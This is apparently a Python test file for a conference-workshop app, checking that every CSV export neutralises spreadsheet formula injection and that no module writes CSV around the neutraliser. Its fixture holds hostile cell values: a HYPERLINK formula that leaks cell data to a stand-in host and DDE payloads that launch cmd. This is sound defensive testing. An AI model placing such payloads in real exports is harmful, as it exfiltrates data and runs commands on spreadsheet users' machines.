"""Every CSV the project writes goes through the one neutraliser (issue 30, finding 4):
`workshop.csvexport.neutralise` puts an apostrophe before a cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return, so a spreadsheet shows `=HYPERLINK(...)` as text.

The walk reads the code itself: a module that builds a `csv.writer`/`csv.DictWriter` anywhere
but `workshop/csvexport.py`, or that writes a `*.csv` file or a `text/csv` response without
importing `workshop.csvexport`, fails here, so a new CSV writer cannot skip the neutraliser.

Round trip: the project writes no CSV that another system (or this one) reads back. The
transfer archive, which must restore values exactly, is JSON, never opened by a spreadsheet;
the transfer formats (EasyChair, HotCRP, OpenReview CSV) are read, not written. If an exporter
of such a format is ever added and must keep exact values for its re-import, it goes into
ROUND_TRIP_WRITERS below with the reason, and its test proves the round trip.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest

from submissions.models import Authorship, ProceedingsBundle, SubmissionStatus
from submissions.services.camera_ready import proceedings_build
from tests.factories import SubmissionFactory, UserFactory, WorkshopFactory
from workshop.csvexport import FORMULA_PREFIXES, csv_response, csv_write, neutralise

ROOT = Path(__file__).resolve().parent.parent
APPS = ("workshop", "submissions", "reviews", "programme", "transfer", "api")
NEUTRALISER = "workshop/csvexport.py"
# module path -> why it may write exact values (none today, see the docstring).
ROUND_TRIP_WRITERS: dict[str, str] = {}

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "affiliation": "+cmd|' /C notepad'!A0",
    "second_author": "-2+3",
    "keyword": "\t=1+1",
}


def _modules() -> list[tuple[str, ast.Module]]:
    found = []
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" in path.parts:
                continue
            found.append((path.relative_to(ROOT).as_posix(), ast.parse(path.read_text())))
    return found


def _csv_writers(tree: ast.Module) -> list[int]:
    """Lines that build a csv writer: `csv.writer(...)`, `csv.DictWriter(...)` or the same
    names imported from csv."""
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "csv"
        for alias in node.names
        if alias.name in ("writer", "DictWriter")
    }
    lines = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if (
            isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Name)
            and func.value.id == "csv"
            and func.attr in ("writer", "DictWriter")
        ) or (isinstance(func, ast.Name) and func.id in imported):
            lines.append(node.lineno)
    return lines


def _writes_csv(tree: ast.Module) -> bool:
    """A `text/csv` response (content_type= or a Content-Type header), or a `*.csv` member or
    file written (writestr/write_text). A schema merely naming `text/csv` does not count."""

    def is_csv_type(node: ast.AST) -> bool:
        return isinstance(node, ast.Constant) and str(node.value).startswith("text/csv")

    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            if any(k.arg == "content_type" and is_csv_type(k.value) for k in node.keywords):
                return True
            if isinstance(node.func, ast.Attribute) and node.args:
                first = node.args[0]
                if (
                    node.func.attr in ("writestr", "write_text", "open")
                    and isinstance(first, ast.Constant)
                    and str(first.value).endswith(".csv")
                ):
                    return True
        if isinstance(node, ast.Assign) and is_csv_type(node.value):
            for target in node.targets:
                if (
                    isinstance(target, ast.Subscript)
                    and isinstance(target.slice, ast.Constant)
                    and str(target.slice.value).lower() == "content-type"
                ):
                    return True
    return False


def _imports_neutraliser(tree: ast.Module) -> bool:
    return any(
        isinstance(node, ast.ImportFrom)
        and (node.module == "workshop.csvexport" or (node.module == "csvexport" and node.level))
        for node in ast.walk(tree)
    )


def test_the_walk_finds_the_writers_it_should():
    """The walk itself can fail: it sees the neutraliser's writer and the bundle's CSV."""
    modules = dict(_modules())
    assert _csv_writers(modules[NEUTRALISER])
    assert _writes_csv(modules["submissions/services/camera_ready.py"])
    assert _writes_csv(modules[NEUTRALISER])
    assert not _writes_csv(modules["transfer/formats/easychair.py"])  # reads CSV only
    assert not _writes_csv(modules["api/views/submissions.py"])  # the admin's export, named
    assert _writes_csv(ast.parse('r = HttpResponse(content_type="text/csv")\n'))
    assert _writes_csv(ast.parse('r["Content-Type"] = "text/csv"\n'))
    assert _csv_writers(ast.parse("import csv\nw = csv.writer(s)\n"))
    assert _csv_writers(ast.parse("from csv import writer as w\nw(s)\n"))


def test_only_the_neutraliser_builds_a_csv_writer():
    offenders = {
        path: lines
        for path, tree in _modules()
        if path != NEUTRALISER and path not in ROUND_TRIP_WRITERS and (lines := _csv_writers(tree))
    }
    assert not offenders, f"CSV written around workshop.csvexport.csv_write: {offenders}"


def test_every_module_writing_csv_uses_the_neutraliser():
    offenders = [
        path
        for path, tree in _modules()
        if path != NEUTRALISER
        and path not in ROUND_TRIP_WRITERS
        and _writes_csv(tree)
        and not _imports_neutraliser(tree)
    ]
    assert not offenders, f"CSV written without workshop.csvexport: {offenders}"


# --- Behaviour ------------------------------------------------------------------------------
@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_defuses_every_formula_prefix(prefix):
    assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"
    assert neutralise("plain") == "plain" and neutralise(None) == "" and neutralise(3) == "3"


def test_csv_write_and_csv_response_neutralise_header_and_cells():
    stream = io.StringIO()
    csv_write(stream, ["=h"], [[HOSTILE["title"], 5, None]])
    response = csv_response("x.csv", ["=h"], [[HOSTILE["title"], 5, None]])
    for text in (stream.getvalue(), response.content.decode()):
        rows = list(csv.reader(io.StringIO(text)))
        assert rows == [["'=h"], ["'" + HOSTILE["title"], "5", ""]]


def _assert_no_live_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell


@pytest.mark.django_db
def test_the_proceedings_bundle_papers_csv_is_neutralised():
    workshop = WorkshopFactory()
    owner = UserFactory()
    paper = SubmissionFactory(
        workshop=workshop, title=HOSTILE["title"], abstract="An abstract.",
        status=SubmissionStatus.ACCEPTED, created_by=owner, contact=False,
        keywords=f"{HOSTILE['keyword']}, fine",
    )  # fmt: skip
    Authorship.objects.create(
        submission=paper,
        position=1,
        name=HOSTILE["author"],
        email="a@example.org",
        affiliation=HOSTILE["affiliation"],
        is_contact=True,
    )
    Authorship.objects.create(
        submission=paper,
        position=2,
        name=HOSTILE["second_author"],
        email="b@example.org",
        affiliation="Fine University",
    )
    bundle = ProceedingsBundle.objects.create(workshop=workshop, requested_by=owner)
    assert proceedings_build(bundle.pk) == "done"
    bundle.refresh_from_db()
    with bundle.file.open("rb") as fh:
        archive = zipfile.ZipFile(io.BytesIO(fh.read()))
    rows = list(csv.reader(io.StringIO(archive.read("papers.csv").decode())))
    _assert_no_live_cell(rows)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["title"] == "'" + HOSTILE["title"]
    assert record["authors"] == f"'{HOSTILE['author']}; {HOSTILE['second_author']}"
    assert record["affiliations"] == f"'{HOSTILE['affiliation']}; Fine University"
    assert record["keywords"].startswith("'")
    # papers.json keeps the exact values (JSON is data, not a spreadsheet).
    assert archive.read("papers.json").decode().count("=HYPERLINK") == 1
